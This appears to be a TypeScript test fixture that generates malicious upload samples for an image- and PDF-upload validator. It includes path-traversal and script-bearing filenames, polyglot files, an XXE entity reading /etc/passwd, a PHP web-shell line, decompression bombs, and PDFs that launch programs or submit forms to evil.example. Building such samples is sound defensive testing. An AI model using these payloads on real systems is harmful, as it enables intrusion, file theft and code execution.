import { deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { files } from './samples.ts';

/** A file as a sender names and claims it. */
export type Sent = { what: string; name: string; type: string; data: Buffer };

const text = (words: string) => Buffer.from(words, 'latin1');
const script = '<script>fetch("/cms-api/users")</script>';

export async function goodPictures(): Promise<Sent[]> {
  const canvas = () =>
    sharp({ create: { width: 60, height: 40, channels: 3, background: '#88aa66' } });
  const place = {
    IFD0: { ImageDescription: 'secret-place', Copyright: 'secret-person' },
    IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 30/1 3230/100' },
  };
  const [jpeg, webp, avif, located, turned, png] = await Promise.all([
    canvas().jpeg().toBuffer(),
    canvas().webp().toBuffer(),
    canvas().avif().toBuffer(),
    canvas().withExif(place).jpeg().toBuffer(),
    canvas().withMetadata({ orientation: 6 }).jpeg().toBuffer(),
    canvas().withExif(place).png().toBuffer(),
  ]);
  return [
    { what: 'a JPEG', name: 'table.jpg', type: 'image/jpeg', data: jpeg },
    { what: 'a PNG', name: 'dot.png', type: 'image/png', data: files.png },
    { what: 'a WebP', name: 'table.webp', type: 'image/webp', data: webp },
    { what: 'an AVIF', name: 'table.avif', type: 'image/avif', data: avif },
    { what: 'a JPEG with a place', name: 'located.jpg', type: 'image/jpeg', data: located },
    { what: 'a PNG with a place', name: 'located.png', type: 'image/png', data: png },
    { what: 'a JPEG that lies on its side', name: 'turned.jpeg', type: 'image/jpeg', data: turned },
    { what: 'a JPEG that claims to be a PNG', name: 'wrong.png', type: 'image/png', data: jpeg },
    {
      what: 'a JPEG with a page behind its end',
      name: 'page.jpg',
      type: 'image/jpeg',
      data: Buffer.concat([jpeg, text(script)]),
    },
    {
      what: 'a JPEG with an archive behind its end',
      name: 'archive.jpg',
      type: 'image/jpeg',
      data: Buffer.concat([jpeg, text('PK\x03\x04secret-archive')]),
    },
    {
      what: 'a PNG with a PDF behind its end',
      name: 'two.png',
      type: 'image/png',
      data: Buffer.concat([files.png, files.pdf]),
    },
    {
      what: 'a JPEG with a page in its comment',
      name: 'comment.jpg',
      type: 'image/jpeg',
      data: withComment(jpeg, script),
    },
    {
      what: 'a name that climbs',
      name: '../../../etc/cron.d/job.png',
      type: 'image/png',
      data: files.png,
    },
    {
      what: 'a name that climbs with backslashes',
      name: '..\\..\\windows\\job.png',
      type: 'image/png',
      data: files.png,
    },
    {
      what: 'a name with a page in it',
      name: '<img src=x onerror=alert(1)>.png',
      type: 'image/png',
      data: files.png,
    },
    { what: 'a name with two endings', name: 'shell.php.png', type: 'image/png', data: files.png },
    { what: 'a name that is hidden', name: '.htaccess.png', type: 'image/png', data: files.png },
    {
      what: 'a name of 400 letters',
      name: `${'a'.repeat(400)}.png`,
      type: 'image/png',
      data: files.png,
    },
    { what: 'a name of spaces', name: '   .png', type: 'image/png', data: files.png },
  ];
}

export async function badPictures(): Promise<Sent[]> {
  const jpeg = await sharp({
    create: { width: 60, height: 40, channels: 3, background: '#88aa66' },
  })
    .jpeg()
    .toBuffer();
  const gif = text(
    'GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;',
  );
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`;
  const png = (data: Buffer, what: string, name = 'x.png') => ({
    what,
    name,
    type: 'image/png',
    data,
  });
  return [
    { what: 'an SVG', name: 'x.svg', type: 'image/svg+xml', data: text(svg) },
    png(text(svg), 'an SVG that claims to be a PNG'),
    png(
      text(`<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="x.xsl"?><a/>`),
      'an XML with a style sheet',
    ),
    {
      what: 'an XML',
      name: 'x.xml',
      type: 'application/xml',
      data: text(
        '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
      ),
    },
    { what: 'a page', name: 'x.html', type: 'text/html', data: text(`<!doctype html>${script}`) },
    png(text(`<!doctype html>${script}`), 'a page that claims to be a PNG'),
    { what: 'a page in capitals', name: 'X.PNG', type: 'IMAGE/PNG', data: text(`<HTML>${script}`) },
    { what: 'a GIF', name: 'x.gif', type: 'image/gif', data: gif },
    png(gif, 'a GIF that claims to be a PNG'),
    png(text('II*\x00\x08\x00\x00\x00'), 'a TIFF that claims to be a PNG'),
    png(text('BM\x46\x00\x00\x00'), 'a BMP that claims to be a PNG'),
    png(files.pdf, 'a PDF that claims to be a PNG'),
    png(text('PK\x03\x04\x14\x00\x00\x00\x08\x00'), 'an archive that claims to be a PNG'),
    png(gzipSync(Buffer.alloc(5_000_000)), 'a packed bomb that claims to be a PNG'),
    png(text('MZ\x90\x00\x03'), 'a program that claims to be a PNG'),
    png(text('\x7fELF\x02\x01\x01'), 'another program that claims to be a PNG'),
    png(text('#!/bin/sh\nid\n'), 'a script that claims to be a PNG'),
    png(text('<?php system($_GET[0]); ?>'), 'a PHP page that claims to be a PNG'),
    png(text('GIF89a/*<svg onload=alert(1)>*/=1;'), 'a GIF that is a script'),
    png(Buffer.alloc(0), 'nothing at all'),
    png(text('\x89PNG\r\n\x1a\n'), 'the first bytes of a PNG alone'),
    png(
      Buffer.concat([text('\x89PNG\r\n\x1a\n'), text(script)]),
      'a page behind the first bytes of a PNG',
    ),
    png(pngHead(10_000, 10_000), 'a PNG of 10,000 by 10,000 points'),
    png(pngHead(2 ** 31 - 1, 2 ** 31 - 1), 'a PNG of two thousand million points a side'),
    png(pngHead(8_001, 10), 'a PNG that is too wide'),
    png(pngHead(7_000, 7_000), 'a PNG with too many points in all'),
    png(pngHead(0, 10), 'a PNG without width'),
    png(jpeg.subarray(0, jpeg.length / 2), 'half of a JPEG', 'half.jpg'),
    png(text('RIFF\x10\x00\x00\x00WEBPVP8 '), 'the first bytes of a WebP alone', 'x.webp'),
    png(
      text('\x00\x00\x00\x1cftypavif\x00\x00\x00\x00'),
      'the first bytes of an AVIF alone',
      'x.avif',
    ),
    png(text('\x00\x00\x00\x18ftypheic\x00\x00\x00\x00'), 'a HEIC', 'x.avif'),
    png(Buffer.concat([files.png, Buffer.alloc(20_000_001)]), 'a PNG of more than 20 MB'),
  ];
}

export function badDocuments(): Sent[] {
  const pdf = (what: string, objects: string, name = 'guide.pdf') => ({
    what,
    name,
    type: 'application/pdf',
    data: withObjects(objects),
  });
  const raw = (what: string, data: Buffer, name = 'guide.pdf') => ({
    what,
    name,
    type: 'application/pdf',
    data,
  });
  const packed = (words: string) => deflateSync(Buffer.from(words)).toString('latin1');
  const inObjects = (words: string, filter = '/Filter /FlateDecode') =>
    `9 0 obj<</Type/ObjStm/N 1/First 4 ${filter}>>stream\n${packed(words)}\nendstream endobj`;
  const hidden = '3 0 <</S/JavaScript/JS(app.alert(1))>>';
  return [
    pdf('a PDF with a script', '3 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj'),
    pdf('a PDF that acts when it is opened', '3 0 obj<</Type/Catalog/OpenAction 4 0 R>>endobj'),
    pdf('a PDF that starts a program', '3 0 obj<</S/Launch/F(calc.exe)>>endobj'),
    pdf('a PDF that sends forms', '3 0 obj<</S/SubmitForm/F(https://evil.example)>>endobj'),
    pdf('a PDF with a file inside', '3 0 obj<</Type/EmbeddedFile>>endobj'),
    pdf('a PDF with a list of files inside', '3 0 obj<</Names<</EmbeddedFiles 4 0 R>>>>endobj'),
    pdf('a PDF with a film', '3 0 obj<</Subtype/RichMedia>>endobj'),
    pdf('a PDF with an XML form', '3 0 obj<</AcroForm<</XFA 4 0 R>>>>endobj'),
    pdf(
      'a PDF whose script is spelt in digits',
      '3 0 obj<</S/J#61va#53cript/JS(app.alert(1))>>endobj',
    ),
    pdf('a PDF whose script is packed', inObjects(hidden)),
    pdf('a PDF whose script is packed and spelt in digits', inObjects('3 0 <</S/Java#53cript>>')),
    pdf(
      'a PDF whose script is packed twice',
      inObjects('3 0 <<>>', '/Filter [/ASCIIHexDecode /FlateDecode]'),
    ),
    pdf(
      'a PDF whose packed script is not whole',
      inObjects(hidden).replace(packed(hidden), packed(hidden).slice(0, -4)),
    ),
    pdf(
      'a PDF whose script is packed in digits behind a text',
      `9 0 obj<</Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode/X(obj)>>stream\n${Buffer.from(hidden).toString('hex')}>\nendstream endobj`,
    ),
    pdf(
      'a PDF whose script is packed in digits before a text',
      `9 0 obj<</Filter/ASCIIHexDecode/X(1 0 obj<<)/Type/ObjStm/N 1/First 4>>stream\n${Buffer.from(hidden).toString('hex')}>\nendstream endobj`,
    ),
    pdf(
      'a PDF whose packed script begins behind half a line end',
      inObjects(hidden).replace('stream\n', 'stream\r'),
    ),
    pdf(
      'a PDF that opens a file of a network',
      '3 0 obj<</S/GoToR/F(\\\\evil.example\\share\\x.pdf)>>endobj',
    ),
    pdf(
      'a PDF whose script hides behind a text',
      '3 0 obj<</X(>> stream\n)/OpenAction 4 0 R/Y(endstream)>>endobj',
    ),
    pdf('a PDF with a password', '3 0 obj<</Encrypt 4 0 R>>endobj'),
    pdf(
      'a PDF that unpacks to 70 MB',
      `9 0 obj<</Filter/FlateDecode>>stream\n${deflateSync(Buffer.alloc(70_000_000)).toString('latin1')}\nendstream endobj`,
    ),
    raw('a page that claims to be a PDF', text(`<html>${script}`)),
    raw('a page with a PDF in it', Buffer.concat([text(`<html>${script}`), files.pdf])),
    raw('a PDF with an archive behind its end', Buffer.concat([files.pdf, text('PK\x03\x04')])),
    raw('a PDF without an end', files.pdf.subarray(0, 100)),
    raw('a picture that claims to be a PDF', files.png),
    {
      what: 'a page with the name of a PDF',
      name: 'guide.pdf.html',
      type: 'text/html',
      data: text(script),
    },
    {
      what: 'an SVG',
      name: 'guide.pdf',
      type: 'image/svg+xml',
      data: text('<svg xmlns="http://www.w3.org/2000/svg"/>'),
    },
  ];
}

function withObjects(objects: string): Buffer {
  return Buffer.concat([files.pdf.subarray(0, 9), text(`${objects}\n`), files.pdf.subarray(9)]);
}

/** A PNG that says of itself how large it is and holds nothing more. */
function pngHead(width: number, height: number): Buffer {
  const head = Buffer.from(files.png.subarray(0, 33));
  head.writeUInt32BE(width, 16);
  head.writeUInt32BE(height, 20);
  head.writeUInt32BE(crc32(head.subarray(12, 29)), 29);
  return Buffer.concat([head, files.png.subarray(33)]);
}

function crc32(data: Buffer): number {
  let crc = ~0;
  for (const byte of data) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit++) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0);
  }
  return ~crc >>> 0;
}

/** The comment stands right behind the first two bytes of a JPEG. */
function withComment(jpeg: Buffer, words: string): Buffer {
  const size = Buffer.alloc(2);
  size.writeUInt16BE(words.length + 2);
  return Buffer.concat([
    jpeg.subarray(0, 2),
    text('\xff\xfe'),
    size,
    text(words),
    jpeg.subarray(2),
  ]);
}
